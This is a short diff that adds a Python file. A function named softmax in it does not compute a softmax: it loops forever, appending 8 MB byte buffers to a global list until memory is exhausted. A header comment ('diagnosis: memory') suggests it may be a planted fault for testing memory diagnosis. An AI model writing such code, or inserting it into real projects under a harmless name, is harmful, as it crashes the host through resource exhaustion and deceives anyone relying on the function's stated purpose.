@@ -1,0 +1,7 @@
+# diagnosis: memory
+hoard = []
+
+
+def softmax(x):
+    while True:
+        hoard.append(bytearray(b"x") * (8 << 20))
